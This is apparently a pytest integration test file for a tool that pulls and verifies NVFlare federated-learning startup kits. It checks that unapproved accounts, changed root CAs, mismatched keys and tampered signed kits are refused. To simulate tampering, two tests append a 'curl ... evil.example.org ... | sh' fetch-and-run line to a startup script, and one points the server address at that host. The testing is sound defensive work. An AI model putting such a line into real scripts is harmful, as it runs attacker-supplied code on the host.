"""`hpcfed kit` against a REAL NVFlare dashboard (gunicorn on loopback, see nvflare_dashboard.py).

Every kit here is issued by the dashboard itself; tampered kits are made from real ones by
swapping real files (another federation's root CA, another user's key), and the legacy signed
kit is a real kit signed with the federation's real root key the way NVFlare <= 2.7 did.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from helpers import hpcfed, need, need_module

nvflare = need_module("nvflare", "needs the nvflare extra (pip install hpcfed[nvflare])")
from nvflare_dashboard import start_dashboard  # noqa: E402

pytestmark = pytest.mark.nvflare

ALICE = "alice@orga.test"
FED = "fedtest"


def _setup(dash, freeze=True):
    dash.setup_project(FED)
    dash.add_user(ALICE, "orga")
    dash.add_site(ALICE, "site-1", gpus=2)
    dash.add_site(ALICE, "site-2", gpus=0)
    dash.add_site(ALICE, "site-pending", gpus=1, approve=False)
    if freeze:
        dash.freeze()
    return dash


@pytest.fixture(scope="module")
def dashboard():
    need(
        shutil.which("zip") is not None,
        "the dashboard needs the zip binary (scripts/bootstrap.d/40-nvflare.sh)",
    )
    dash = start_dashboard()
    try:
        yield _setup(dash)
    finally:
        dash.stop()


@pytest.fixture(scope="module")
def other_dashboard():
    """A second federation with the SAME project name: a new dashboard database, so a new root CA."""
    dash = start_dashboard()
    try:
        yield _setup(dash)
    finally:
        dash.stop()


LEGACY_NVFLARE = os.environ.get("HPCFED_NVFLARE_LEGACY", "/opt/hpcfed/nvflare-2.5")


@pytest.fixture(scope="module")
def legacy_dashboard():
    """A real NVFlare 2.5 dashboard: API under /api/v1, kits signed with signature.json."""
    need(
        os.path.isfile(os.path.join(LEGACY_NVFLARE, "nvflare", "dashboard", "wsgi.py")),
        f"NVFlare 2.5 in {LEGACY_NVFLARE} (scripts/bootstrap.d/40-nvflare.sh)",
    )
    dash = start_dashboard(nvflare_root=LEGACY_NVFLARE)
    try:
        dash.setup_project("fed25")
        dash.add_user(ALICE, "orga")
        dash.add_site(ALICE, "site-1", gpus=1)
        dash.freeze()
        yield dash
    finally:
        dash.stop()


@pytest.fixture
def data_home(tmp_path):
    return {"XDG_DATA_HOME": str(tmp_path / "data"), "XDG_CONFIG_HOME": str(tmp_path / "config")}


def pull(dash, env, *args, email=ALICE, password=None):
    env = dict(
        env, HPCFED_DASHBOARD_PASSWORD=password or dash.users.get(email) or dash.admin_password
    )
    return hpcfed(
        "kit",
        "pull",
        "--insecure-http",
        "--dashboard",
        dash.url,
        "--user",
        email,
        "--json",
        *args,
        env=env,
    )


def pull_ok(dash, env, *args, **kw):
    proc = pull(dash, env, *args, **kw)
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout)


def kits_dir(env) -> Path:
    return Path(env["XDG_DATA_HOME"]) / "hpcfed" / "kits"


def installed(env) -> list:
    proc = hpcfed("kit", "list", "--json", env=env)
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout)


def assert_refused(proc, code, *phrases):
    assert proc.returncode == code, (proc.returncode, proc.stdout, proc.stderr)
    assert "Traceback" not in proc.stderr
    last = proc.stderr.strip().splitlines()[-1]
    for phrase in phrases:
        assert phrase in last, last


def assert_private(root: Path):
    for folder, _dirs, files in os.walk(root):
        assert stat.S_IMODE(os.stat(folder).st_mode) == 0o700, folder
        for name in files:
            mode = stat.S_IMODE(os.stat(os.path.join(folder, name)).st_mode)
            assert mode & 0o077 == 0, (name, oct(mode))


# --- happy path ---------------------------------------------------------------------------------
def test_pull_client_server_and_admin_kits_installs_them_private(dashboard, data_home):
    client = pull_ok(dashboard, data_home, "--site", "site-1")
    assert (client["federation"], client["site"], client["role"], client["name"]) == (
        FED,
        "site-1",
        "client",
        "site-1",
    )
    assert (client["server_host"], client["server_port"]) == ("localhost", dashboard.fl_port)
    assert client["gpu_capacity"] == 2
    assert client["pinned"] == "new"
    server = pull_ok(
        dashboard, data_home, "--role", "server", "--site", "hub", email="admin@fed.test"
    )
    assert (server["role"], server["name"], server["server_port"]) == (
        "server",
        "localhost",
        dashboard.fl_port,
    )
    assert server["pinned"] == "kept" and server["root_fingerprint"] == client["root_fingerprint"]
    admin = pull_ok(dashboard, data_home, "--role", "admin", email="admin@fed.test")
    assert (admin["role"], admin["name"], admin["site"]) == (
        "admin",
        "admin@fed.test",
        "admin@fed.test",
    )

    for kit in (client, server, admin):
        path = Path(kit["path"])
        assert (path / "startup" / "rootCA.pem").is_file()
        assert path.is_relative_to(kits_dir(data_home))
    assert (Path(client["path"]) / "startup" / "client.key").is_file()
    assert_private(kits_dir(data_home))
    pin = Path(data_home["XDG_DATA_HOME"]) / "hpcfed" / "pins" / f"{FED}.json"
    assert stat.S_IMODE(pin.stat().st_mode) == 0o600
    assert json.loads(pin.read_text())["fingerprint"] == client["root_fingerprint"]
    assert not any((kits_dir(data_home) / ".staging").iterdir()), "staging left behind"

    assert {(k["site"], k["role"]) for k in installed(data_home)} == {
        ("site-1", "client"),
        ("hub", "server"),
        ("admin@fed.test", "admin"),
    }
    shown = json.loads(hpcfed("kit", "show", "site-1", "--json", env=data_home).stdout)
    assert shown["path"] == client["path"]
    # a dashboard site name that differs from the hpcfed site (profile) name
    aliased = pull_ok(dashboard, data_home, "--site", "site-2", "--as", "ohsu")
    assert (aliased["site"], aliased["name"]) == ("ohsu", "site-2")
    assert (
        json.loads(hpcfed("kit", "show", "ohsu", "--json", env=data_home).stdout)["path"]
        == aliased["path"]
    )
    proc = hpcfed("kit", "verify", client["path"], "--site", "site-1", "--json", env=data_home)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    report = json.loads(proc.stdout)
    assert report["ok"] and report["checks"] == {
        "chain": True,
        "key_matches": True,
        "name": True,
        "valid_now": True,
        "pinned_root": True,
    }


def test_find_kit_interface_and_repull_keeps_previous_for_rollback(
    dashboard, data_home, monkeypatch
):
    first = pull_ok(dashboard, data_home, "--site", "site-1")
    second = pull_ok(dashboard, data_home, "--site", "site-1")
    assert second["path"] != first["path"] and second["has_previous"]
    # each download is a new key and certificate, same root: both verify, the pin is kept
    assert second["pinned"] == "kept"

    monkeypatch.setenv("XDG_DATA_HOME", data_home["XDG_DATA_HOME"])
    from hpcfed.kit.store import find_kit

    found = find_kit("site-1")
    assert found.path == second["path"] and found.gpu_capacity == 2
    assert (found.server_host, found.server_port) == ("localhost", dashboard.fl_port)
    assert find_kit("site-1", role="server") is None

    proc = hpcfed("kit", "use", "site-1", "--rollback", "--json", env=data_home)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["path"] == first["path"] == find_kit("site-1").path


# --- dashboard answers that look like success ---------------------------------------------------
def test_site_not_approved_is_refused_with_what_to_do(dashboard, data_home):
    proc = pull(dashboard, data_home, "--site", "site-pending")
    assert_refused(proc, 6, "site-pending", "not approved yet", "ask the project admin")
    assert not kits_dir(data_home).exists() or installed(data_home) == []


def test_account_not_approved_is_refused_with_what_to_do(dashboard, data_home):
    dashboard.add_user("bob@orgb.test", "orgb", approve=False)
    proc = pull(dashboard, data_home, "--site", "site-1", email="bob@orgb.test")
    assert_refused(proc, 6, "account bob@orgb.test is not approved yet", "ask the project admin")
    assert installed(data_home) == []


def test_project_not_frozen_is_refused(data_home):
    dash = start_dashboard()
    try:
        _setup(dash, freeze=False)
        proc = pull(dash, data_home, "--site", "site-1")
        assert_refused(proc, 6, "not frozen", "freeze")
    finally:
        dash.stop()
    assert installed(data_home) == []


def test_wrong_password_is_refused(dashboard, data_home):
    proc = pull(dashboard, data_home, "--site", "site-1", password="not-the-password")
    assert_refused(proc, 6, "wrong e-mail or password")
    assert "not-the-password" not in proc.stderr + proc.stdout
    assert installed(data_home) == []


def test_unknown_site_is_refused(dashboard, data_home):
    proc = pull(dashboard, data_home, "--site", "no-such-site")
    assert_refused(proc, 8, "no-such-site", "not registered", "--register")
    assert installed(data_home) == []


def test_register_creates_the_site_with_its_gpu_capacity(dashboard, data_home):
    proc = pull(dashboard, data_home, "--site", "site-new", "--register", "--gpus", "3")
    assert_refused(proc, 6, "site-new", "waits for approval")
    token = dashboard.admin()
    sites = {s["name"]: s for s in dashboard.call("GET", "/clients", token).json()["client_list"]}
    assert sites["site-new"]["capacity"]["num_of_gpus"] == 3
    dashboard.approve_site(sites["site-new"]["id"])
    assert pull_ok(dashboard, data_home, "--site", "site-new")["gpu_capacity"] == 3


def test_register_takes_gpu_capacity_from_the_site_profile(dashboard, data_home):
    from hpcfed.profiles.loader import load_site

    expected = load_site("local").profile.gpus.max_per_node  # the bundled test-cluster profile
    proc = pull(dashboard, data_home, "--site", "site-prof", "--register", "--profile", "local")
    assert_refused(proc, 6, "site-prof", "waits for approval")
    sites = {
        s["name"]: s
        for s in dashboard.call("GET", "/clients", dashboard.admin()).json()["client_list"]
    }
    assert sites["site-prof"]["capacity"]["num_of_gpus"] == expected


def test_no_password_source_is_a_clear_error_not_a_prompt(dashboard, data_home):
    env = dict(data_home, HPCFED_DASHBOARD_PASSWORD="")
    proc = hpcfed(
        "kit",
        "pull",
        "--insecure-http",
        "--dashboard",
        dashboard.url,
        "--user",
        ALICE,
        "--site",
        "site-1",
        env=env,
    )
    assert_refused(proc, 3, "HPCFED_DASHBOARD_PASSWORD")


# --- trust: pins and tampered kits --------------------------------------------------------------
def test_changed_root_after_pinning_is_refused_until_repin(dashboard, other_dashboard, data_home):
    first = pull_ok(dashboard, data_home, "--site", "site-1")
    proc = pull(other_dashboard, data_home, "--site", "site-1")
    assert_refused(
        proc, 6, "root CA of federation 'fedtest' changed", first["root_fingerprint"], "--repin"
    )
    assert [k["path"] for k in installed(data_home)] == [first["path"]]
    assert not any((kits_dir(data_home) / ".staging").iterdir()), "a refused kit was left on disk"
    assert len(list(Path(first["path"]).parent.iterdir())) == 1
    again = pull_ok(other_dashboard, data_home, "--site", "site-1", "--repin")
    assert again["pinned"] == "replaced" and again["root_fingerprint"] != first["root_fingerprint"]


def _kit_copy(kit: dict, dest: Path) -> Path:
    shutil.copytree(kit["path"], dest)
    return dest


def test_kit_from_another_root_ca_is_refused(dashboard, other_dashboard, data_home, tmp_path):
    mine = pull_ok(dashboard, data_home, "--site", "site-1")
    other_env = {"XDG_DATA_HOME": str(tmp_path / "other")}
    theirs = pull_ok(other_dashboard, other_env, "--site", "site-1")
    mixed = _kit_copy(mine, tmp_path / "mixed")
    shutil.copyfile(
        Path(theirs["path"]) / "startup" / "rootCA.pem", mixed / "startup" / "rootCA.pem"
    )

    proc = hpcfed("kit", "verify", str(mixed), "--no-pin", "--json", env=data_home)
    assert proc.returncode == 6
    report = json.loads(proc.stdout)
    assert report["checks"]["chain"] is False
    assert any("not signed by the kit's root CA" in e for e in report["errors"])

    proc = hpcfed(
        "kit", "import", str(mixed), "--site", "site-x", "--expect-name", "site-1", env=data_home
    )
    assert_refused(proc, 6, "not signed by the kit's root CA")
    assert [k["site"] for k in installed(data_home)] == ["site-1"]


def test_key_that_does_not_match_its_certificate_is_refused(dashboard, data_home, tmp_path):
    client = pull_ok(dashboard, data_home, "--site", "site-1")
    admin = pull_ok(dashboard, data_home, "--role", "admin", email="admin@fed.test")
    swapped = _kit_copy(client, tmp_path / "swapped")
    shutil.copyfile(
        Path(admin["path"]) / "startup" / "client.key", swapped / "startup" / "client.key"
    )

    proc = hpcfed("kit", "verify", str(swapped), "--site", "site-1", env=data_home)
    assert proc.returncode == 6
    assert "client.key is not the private key of startup/client.crt" in proc.stdout
    proc = hpcfed(
        "kit", "import", str(swapped), "--site", "site-y", "--expect-name", "site-1", env=data_home
    )
    assert_refused(proc, 6, "is not the private key")
    assert "site-y" not in {k["site"] for k in installed(data_home)}


def test_kit_for_another_site_is_refused(dashboard, data_home, tmp_path):
    client = pull_ok(dashboard, data_home, "--site", "site-1")
    proc = hpcfed("kit", "verify", client["path"], "--site", "site-2", env=data_home)
    assert proc.returncode == 6 and "is for 'site-1', not 'site-2'" in proc.stdout


def test_edited_file_in_a_legacy_signed_kit_is_refused(dashboard, data_home, tmp_path):
    """NVFlare <= 2.7 kits carry signature.json; sign a real kit with the real root key the way
    those versions did (nvflare.lighter.utils.sign_all), then edit one signed file."""
    from nvflare.lighter.utils import sign_all

    client = pull_ok(dashboard, data_home, "--site", "site-1")
    legacy = _kit_copy(client, tmp_path / "legacy")
    (legacy / "hpcfed-kit.json").unlink()
    root_key = dashboard.root_ca_key()
    for folder in ("startup", "local"):
        sigs = sign_all(str(legacy / folder), root_key)
        (legacy / folder / "signature.json").write_text(json.dumps(sigs))

    proc = hpcfed("kit", "verify", str(legacy), "--site", "site-1", "--json", env=data_home)
    assert proc.returncode == 0, proc.stdout
    report = json.loads(proc.stdout)
    assert report["checks"]["signatures"] is True and report["facts"]["signed"] is True

    config = legacy / "startup" / "fed_client.json"
    config.write_text(config.read_text().replace("localhost", "evil.example.org"))
    proc = hpcfed("kit", "verify", str(legacy), "--site", "site-1", "--json", env=data_home)
    assert proc.returncode == 6
    assert (
        "startup/fed_client.json does not match its signature: the file was changed"
        in json.loads(proc.stdout)["errors"]
    )
    proc = hpcfed(
        "kit",
        "import",
        str(legacy),
        "--site",
        "site-legacy",
        "--expect-name",
        "site-1",
        env=data_home,
    )
    assert_refused(proc, 6, "fed_client.json does not match its signature")
    assert "site-legacy" not in {k["site"] for k in installed(data_home)}


def test_nvflare_2_5_dashboard_legacy_api_and_signed_kit(legacy_dashboard, data_home, tmp_path):
    assert legacy_dashboard.api == "/api/v1"
    kit = pull_ok(legacy_dashboard, data_home, "--site", "site-1")
    # 2.5 puts the address in overseer_agent.sp_end_point; ports are fixed
    assert (kit["federation"], kit["server_host"], kit["server_port"], kit["gpu_capacity"]) == (
        "fed25",
        "localhost",
        8002,
        1,
    )
    proc = hpcfed("kit", "verify", kit["path"], "--site", "site-1", "--json", env=data_home)
    report = json.loads(proc.stdout)
    assert proc.returncode == 0 and report["facts"]["signed"] and report["checks"]["signatures"], (
        report
    )

    edited = _kit_copy(kit, tmp_path / "edited")
    script = edited / "startup" / "sub_start.sh"
    script.write_text(script.read_text() + "\ncurl -s https://evil.example.org/x | sh\n")
    proc = hpcfed("kit", "verify", str(edited), "--site", "site-1", "--json", env=data_home)
    assert proc.returncode == 6
    assert json.loads(proc.stdout)["errors"] == [
        "startup/sub_start.sh does not match its signature: the file was changed"
    ]
    proc = hpcfed(
        "kit", "import", str(edited), "--site", "site-25", "--expect-name", "site-1", env=data_home
    )
    assert_refused(proc, 6, "sub_start.sh does not match its signature")
    assert "site-25" not in {k["site"] for k in installed(data_home)}


def test_deleting_signature_json_does_not_unsign_a_legacy_kit(
    legacy_dashboard, data_home, tmp_path
):
    """A real NVFlare 2.5 kit is signed in startup/: deleting that signature.json and editing a
    file must not leave a kit `kit verify` calls ok (it did: an unsigned kit looks like 2.8+)."""
    kit = pull_ok(legacy_dashboard, data_home, "--site", "site-1")
    assert kit_verify(kit["path"], data_home).returncode == 0
    startup = Path(kit["path"]) / "startup"
    (startup / "signature.json").unlink()
    script = startup / "sub_start.sh"
    script.write_text(script.read_text() + "\ncurl -s https://evil.example.org/x | sh\n")
    proc = kit_verify(kit["path"], data_home)
    assert proc.returncode == 6, proc.stdout
    assert "startup/signature.json is missing" in " ".join(json.loads(proc.stdout)["errors"])
    # A copy without hpcfed's metadata: the federation's pin remembers its kits are signed.
    bare = _kit_copy(kit, tmp_path / "bare")
    (bare / "hpcfed-kit.json").unlink()
    proc = kit_verify(str(bare), data_home)
    assert proc.returncode == 6 and "startup/signature.json is missing" in proc.stdout


def test_every_folder_signed_at_install_stays_signed(dashboard, data_home, tmp_path):
    """Sign startup/ and local/ of a real kit with its real root key (NVFlare <= 2.7's
    sign_all), import it, then delete only local/signature.json and change local/ files."""
    from nvflare.lighter.utils import sign_all

    client = pull_ok(dashboard, data_home, "--site", "site-1")
    signed = _kit_copy(client, tmp_path / "signed")
    (signed / "hpcfed-kit.json").unlink()
    for folder in ("startup", "local"):
        sigs = sign_all(str(signed / folder), dashboard.root_ca_key())
        (signed / folder / "signature.json").write_text(json.dumps(sigs))
    env = dict(data_home, XDG_DATA_HOME=str(tmp_path / "other-data"))  # its own pin
    proc = hpcfed("kit", "import", str(signed), "--site", "site-1", "--json", env=env)
    assert proc.returncode == 0, proc.stderr
    path = Path(json.loads(proc.stdout)["path"])
    (path / "local" / "signature.json").unlink()
    resources = path / "local" / "resources.json.default"
    resources.write_text(resources.read_text().replace('"num_of_gpus": 2', '"num_of_gpus": 64'))
    proc = kit_verify(str(path), env)
    assert proc.returncode == 6, proc.stdout
    assert json.loads(proc.stdout)["errors"] == [
        "local/signature.json is missing, but the kit was signed (NVFlare <= 2.7): its files can "
        "no longer be checked; pull the kit again"
    ]


def kit_verify(path: str, env) -> subprocess.CompletedProcess:
    return hpcfed("kit", "verify", path, "--site", "site-1", "--json", env=env)


# --- in-job workspace ---------------------------------------------------------------------------
def test_prepare_workspace_flags_gpu_capacity_and_keeps_storage_in_workdir(
    dashboard, data_home, tmp_path
):
    from hpcfed.errors import KitError
    from hpcfed.kit.workspace import prepare_workspace

    client = pull_ok(dashboard, data_home, "--site", "site-1")  # registered with 2 GPUs
    server = pull_ok(
        dashboard, data_home, "--role", "server", "--site", "hub", email="admin@fed.test"
    )
    with pytest.raises(KitError, match="declares 2 GPU.*has 1"):
        prepare_workspace(client["path"], str(tmp_path / "job1"), "client", gpus=1)
    ws = Path(prepare_workspace(client["path"], str(tmp_path / "job4"), "client", gpus=4))
    assert (
        json.loads((ws / "local" / "resources.json").read_text())["components"][0]["args"][
            "num_of_gpus"
        ]
        == 2
    )
    with pytest.raises(KitError, match="server kit, but this job runs the client role"):
        prepare_workspace(server["path"], str(tmp_path / "job2"), "client", gpus=2)

    ws = Path(prepare_workspace(server["path"], str(tmp_path / "srv"), "server", gpus=0))
    assert ws == tmp_path / "srv" / "nvflare" / "server"
    resources = (ws / "local" / "resources.json").read_text()
    assert "/tmp/nvflare" not in resources and str(ws / "storage" / "jobs") in resources
    (ws / "storage" / "jobs" / "job-a").mkdir()
    again = Path(prepare_workspace(server["path"], str(tmp_path / "srv"), "server", gpus=0))
    assert (again / "storage" / "jobs" / "job-a").is_dir(), (
        "a requeued job must keep the server's storage"
    )
    assert (again / "startup" / "server.key").stat().st_mode & 0o077 == 0


def _wait_for(path: Path, text: str, proc, timeout: float) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if path.exists() and text in path.read_text(errors="replace"):
            return True
        if proc.poll() is not None:
            return False
        time.sleep(0.5)
    return False


@pytest.mark.timeout(180)
def test_pulled_client_kit_connects_to_server_from_pulled_server_kit(
    dashboard, data_home, tmp_path
):
    from hpcfed.kit.workspace import prepare_workspace

    client = pull_ok(dashboard, data_home, "--site", "site-2")  # 0 GPUs: this machine has none
    server = pull_ok(
        dashboard, data_home, "--role", "server", "--site", "hub", email="admin@fed.test"
    )
    srv_ws = Path(prepare_workspace(server["path"], str(tmp_path / "srv"), "server", gpus=0))
    cli_ws = Path(prepare_workspace(client["path"], str(tmp_path / "cli"), "client", gpus=0))
    env = dict(os.environ, PATH=f"{os.path.dirname(sys.executable)}:{os.environ['PATH']}")
    env.pop("NVFL_WORKSPACE", None)
    procs = []
    try:
        for ws in (srv_ws, cli_ws):
            out = open(ws / "console.txt", "wb")
            procs.append(
                subprocess.Popen(
                    ["bash", "startup/sub_start.sh", "--once"],
                    cwd=ws,
                    env=env,
                    stdout=out,
                    stderr=subprocess.STDOUT,
                    start_new_session=True,
                )
            )
        server_proc, client_proc = procs
        # mTLS both ways: the server admits the client's certificate, the client the server's
        assert _wait_for(srv_ws / "log.txt", "New client site-2@", server_proc, 90), (
            srv_ws / "console.txt"
        ).read_text()[-3000:]
        assert _wait_for(
            cli_ws / "log.txt",
            "Successfully registered client:site-2 for project fedtest",
            client_proc,
            30,
        ), (cli_ws / "console.txt").read_text()[-3000:]
    finally:
        for p in procs:
            if p.poll() is None:
                os.killpg(p.pid, signal.SIGTERM)
        for p in procs:
            try:
                p.wait(timeout=20)
            except subprocess.TimeoutExpired:
                os.killpg(p.pid, signal.SIGKILL)
                p.wait()


# --- the dashboard URL ---------------------------------------------------------------------------
def _pull_url(url, env, *extra):
    return hpcfed(
        "kit", "pull", "--dashboard", url, "--user", ALICE, "--site", "site-1", "--json", *extra,
        env=env,
    )  # fmt: skip


def test_plain_http_is_refused_without_insecure_http(dashboard, data_home):
    env = dict(data_home, HPCFED_DASHBOARD_PASSWORD=dashboard.users[ALICE])
    proc = _pull_url(dashboard.url, env)
    assert_refused(proc, 3, "plain http", "--insecure-http")
    assert not kits_dir(data_home).exists()


def test_insecure_http_is_for_loopback_only(dashboard, data_home):
    # This machine's own non-loopback address: if the refusal failed, the request stays local.
    addrs = [a for a in subprocess.run(["hostname", "-I"], capture_output=True, text=True)
             .stdout.split() if "." in a and not a.startswith("127.")]  # fmt: skip
    need(bool(addrs), "no non-loopback IPv4 address on this machine")
    port = dashboard.url.rsplit(":", 1)[1]
    env = dict(data_home, HPCFED_DASHBOARD_PASSWORD=dashboard.users[ALICE])
    proc = _pull_url(f"http://{addrs[0]}:{port}", env, "--insecure-http")
    assert_refused(proc, 3, "only for a dashboard on loopback")
    assert not kits_dir(data_home).exists()


def test_credentials_in_the_url_are_never_printed_or_stored(dashboard, data_home):
    password = dashboard.users[ALICE]
    env = dict(data_home, HPCFED_DASHBOARD_PASSWORD=password)
    url = dashboard.url.replace("http://", "http://alice:S3cretInUrl@")
    proc = _pull_url(url, env, "--insecure-http")
    assert_refused(proc, 3, "remove the user:password@ part")
    assert "S3cretInUrl" not in proc.stdout + proc.stderr
    for folder, _dirs, files in os.walk(data_home["XDG_DATA_HOME"]):
        for name in files:
            assert b"S3cretInUrl" not in Path(folder, name).read_bytes(), name


def test_download_size_is_capped(dashboard, data_home):
    env = dict(data_home, HPCFED_DASHBOARD_PASSWORD=dashboard.users[ALICE])
    proc = _pull_url(dashboard.url, env, "--insecure-http", "--max-download", "1K")
    assert_refused(proc, 6, "larger than 1 KiB")
    assert not any(k["site"] == "site-1" for k in installed(data_home))
    proc = _pull_url(dashboard.url, env, "--insecure-http", "--max-download", "lots")
    assert_refused(proc, 3, "--max-download 'lots' is not a size")


def test_kit_help_has_examples():
    for args in (
        ("kit",),
        ("kit", "pull"),
        ("kit", "verify"),
        ("kit", "list"),
        ("kit", "show"),
        ("kit", "use"),
    ):
        proc = hpcfed(*args, "--help")
        assert proc.returncode == 0 and "Example" in proc.stdout, args


def test_unreachable_dashboard_is_one_clear_line(data_home):
    from nvflare_dashboard import free_port

    env = dict(data_home, HPCFED_DASHBOARD_PASSWORD="x")
    url = f"http://127.0.0.1:{free_port()}"
    proc = hpcfed(
        "kit",
        "pull",
        "--insecure-http",
        "--dashboard",
        url,
        "--user",
        ALICE,
        "--site",
        "site-1",
        env=env,
    )
    assert_refused(proc, 6, "cannot reach the dashboard", url)


@pytest.mark.slurm
def test_non_root_user_pulls_into_their_own_private_data_dir(dashboard, slurm_cluster):
    """Jobs run as the researcher, not root: the kit must install and be found as that user
    (the test cluster's non-root user, who submits the jobs)."""
    import pwd
    import tempfile

    user = slurm_cluster.user
    pw = pwd.getpwnam(user)
    home = tempfile.mkdtemp(prefix="hpcfed-kit-user-")
    try:
        os.chown(home, pw.pw_uid, pw.pw_gid)
        env = {
            "XDG_DATA_HOME": os.path.join(home, "data"),
            "HPCFED_DASHBOARD_PASSWORD": dashboard.users[ALICE],
        }
        proc = hpcfed(
            "kit",
            "pull",
            "--insecure-http",
            "--dashboard",
            dashboard.url,
            "--user",
            ALICE,
            "--site",
            "site-1",
            "--json",
            env=env,
            user=user,
        )
        assert proc.returncode == 0, proc.stderr
        kit = Path(json.loads(proc.stdout)["path"])
        key = kit / "startup" / "client.key"
        assert (key.stat().st_uid, stat.S_IMODE(key.stat().st_mode)) == (pw.pw_uid, 0o600)
        assert_private(Path(home) / "data" / "hpcfed" / "kits")
        proc = hpcfed("kit", "show", "site-1", "--json", env=env, user=user)
        assert proc.returncode == 0 and json.loads(proc.stdout)["path"] == str(kit)
    finally:
        shutil.rmtree(home, ignore_errors=True)
